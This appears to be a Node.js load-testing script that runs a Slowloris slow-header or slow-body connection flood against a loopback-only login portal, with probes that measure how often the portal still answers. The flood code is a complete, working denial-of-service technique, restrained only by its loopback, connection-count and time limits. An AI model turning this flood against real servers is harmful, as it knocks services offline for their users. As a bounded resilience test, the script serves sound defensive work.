// slowloris.mjs: a bounded slow-connection flood against a loopback portal, with probes.
//
//   node slowloris.mjs --url http://127.0.0.1:PORT/login [--connections 2000]
//        [--seconds 45] [--from 127.0.0.1] [--probe-from 127.0.0.2]
//        [--probe-every-ms 250] [--probe-timeout-ms 1000] [--mode headers|body]
//
// Opens --connections TCP connections from --from and keeps that many open
// until --seconds have passed: each sends a request line and then one more
// header line every 5 s, never the blank line that ends the header
// ("headers"), or a whole POST header announcing a body it then sends one
// byte every 5 s ("body"). A connection the server closes is opened again,
// as an attacker would. Once all are open, a GET of --url from
// --probe-from runs every --probe-every-ms; a probe counts as good when it
// answers 200 within --probe-timeout-ms.
//
// Bounded on purpose: loopback targets only (127.0.0.0/8, ::1), at most
// 5,000 connections, at most 80 s, and a hard exit 5 s after that whatever
// happens. Prints "key=value" lines and, last, one line
//   probes=N good=N ratio=0.NNN refused=N timeouts=N other=N p50_ms=N max_ms=N peak_open=N reopened=N
// Exit status 0 when it ran (whatever the figures: the caller judges them),
// 2 on a usage error.

import net from 'node:net';
import http from 'node:http';

const args = process.argv.slice(2);
function flag(name, def) {
  const i = args.indexOf(name);
  return i >= 0 && i + 1 < args.length ? args[i + 1] : def;
}
function usage(msg) {
  process.stderr.write(`slowloris: ${msg}\n`);
  process.exit(2);
}

const url = new URL(flag('--url', '') || usage('--url is required'));
const conns = Number(flag('--connections', '2000'));
const seconds = Number(flag('--seconds', '45'));
const from = flag('--from', '127.0.0.1');
const probeFrom = flag('--probe-from', '127.0.0.2');
const probeEvery = Number(flag('--probe-every-ms', '250'));
const probeTimeout = Number(flag('--probe-timeout-ms', '1000'));
const mode = flag('--mode', 'headers');

const loopback = (h) => /^127\.\d{1,3}\.\d{1,3}\.\d{1,3}$/.test(h) || h === '::1' || h === '[::1]';
if (url.protocol !== 'http:') usage('only http:// URLs');
if (!loopback(url.hostname)) usage(`refusing ${url.hostname}: loopback targets only`);
if (!loopback(from) || !loopback(probeFrom)) usage('--from and --probe-from must be loopback addresses');
if (!Number.isInteger(conns) || conns < 1 || conns > 5000) usage('--connections must be 1 to 5000');
if (!(seconds > 0 && seconds <= 80)) usage('--seconds must be more than 0 and at most 80');
if (!(probeEvery >= 50) || !(probeTimeout >= 100)) usage('bad probe timing');
if (mode !== 'headers' && mode !== 'body') usage('--mode must be headers or body');

const port = Number(url.port || 80);
const host = url.hostname.replace(/^\[|\]$/g, '');
const path = url.pathname + url.search;
const t0 = Date.now();
const deadline = t0 + seconds * 1000;
// Whatever happens (a stuck socket, a bug here), the process ends.
setTimeout(() => {
  process.stderr.write('slowloris: hard time limit reached\n');
  process.exit(0);
}, seconds * 1000 + 5000).unref();

const open = new Set();
let peak = 0;
let reopened = 0;
let connectErrors = 0;
let stopping = false;

// Opens one slow connection; when the server ends it, opens another.
function slow() {
  if (stopping || Date.now() >= deadline) return;
  const s = net.createConnection({ host, port, localAddress: from });
  let timer = null;
  let n = 0;
  s.setNoDelay(true);
  s.on('connect', () => {
    open.add(s);
    peak = Math.max(peak, open.size);
    if (mode === 'headers') {
      s.write(`GET ${path} HTTP/1.1\r\nHost: ${url.host}\r\n`);
      timer = setInterval(() => s.write(`X-Slow-${n++}: ${'a'.repeat(8)}\r\n`), 5000);
    } else {
      s.write(`POST ${path} HTTP/1.1\r\nHost: ${url.host}\r\n` +
              'Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 100000\r\n\r\n');
      timer = setInterval(() => s.write('a'), 5000);
    }
  });
  s.on('data', () => {}); // a 408/429 from the server; the close follows
  s.on('error', () => { connectErrors++; });
  s.on('close', () => {
    if (timer) clearInterval(timer);
    open.delete(s);
    if (!stopping && Date.now() < deadline) {
      reopened++;
      setTimeout(slow, 20);
    }
  });
}

// Opens the flood in steps of 100 every 50 ms (the kernel's accept queue
// would otherwise drop SYNs and the count would lag).
async function ramp() {
  for (let i = 0; i < conns; i += 100) {
    for (let j = i; j < Math.min(conns, i + 100); j++) slow();
    await new Promise((r) => setTimeout(r, 50));
  }
  // Until all are open (or 10 s), before probing.
  const until = Date.now() + 10000;
  while (open.size < conns && Date.now() < until && Date.now() < deadline)
    await new Promise((r) => setTimeout(r, 100));
}

const probes = { n: 0, good: 0, refused: 0, timeouts: 0, other: 0, ms: [] };
function probe() {
  return new Promise((resolve) => {
    const start = Date.now();
    let done = false;
    const finish = (kind, ms) => {
      if (done) return;
      done = true;
      probes.n++;
      probes[kind]++;
      if (ms !== undefined) probes.ms.push(ms);
      resolve();
    };
    const req = http.get({ host, port, path, localAddress: probeFrom, agent: false,
                           headers: { Connection: 'close' } }, (res) => {
      res.resume();
      res.on('end', () => {
        const ms = Date.now() - start;
        if (res.statusCode === 200 && ms <= probeTimeout) finish('good', ms);
        else if (res.statusCode === 200) finish('timeouts', ms);
        else finish('other', ms);
      });
    });
    req.setTimeout(probeTimeout, () => { req.destroy(); finish('timeouts'); });
    req.on('error', (e) => finish(e.code === 'ECONNRESET' || e.code === 'ECONNREFUSED' ||
                                  e.code === 'EPIPE' ? 'refused' : 'timeouts'));
  });
}

await ramp();
console.log(`open=${open.size} after_ramp_ms=${Date.now() - t0}`);
while (Date.now() + probeTimeout < deadline) {
  const next = Date.now() + probeEvery;
  await probe();
  const wait = next - Date.now();
  if (wait > 0) await new Promise((r) => setTimeout(r, wait));
}
stopping = true;
for (const s of open) s.destroy();
probes.ms.sort((a, b) => a - b);
const p50 = probes.ms.length ? probes.ms[Math.floor(probes.ms.length / 2)] : 0;
const max = probes.ms.length ? probes.ms[probes.ms.length - 1] : 0;
console.log(`socket_errors=${connectErrors}`);
console.log(`probes=${probes.n} good=${probes.good} ratio=${(probes.n ? probes.good / probes.n : 0).toFixed(3)} ` +
            `refused=${probes.refused} timeouts=${probes.timeouts} other=${probes.other} ` +
            `p50_ms=${p50} max_ms=${max} peak_open=${peak} reopened=${reopened}`);
process.exit(0);
